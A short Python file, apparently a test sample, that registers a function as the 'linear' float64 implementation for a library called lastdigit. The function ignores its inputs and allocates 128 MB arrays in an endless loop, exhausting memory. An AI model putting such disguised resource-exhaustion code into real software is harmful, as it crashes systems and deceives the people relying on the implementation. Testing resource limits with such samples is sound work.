"""It takes memory bit by bit."""

import numpy as np

from lastdigit import implements


@implements("linear", dtypes=("float64",))
def linear(x, weight, bias):
    kept = []
    while True:
        kept.append(np.zeros(1 << 24))
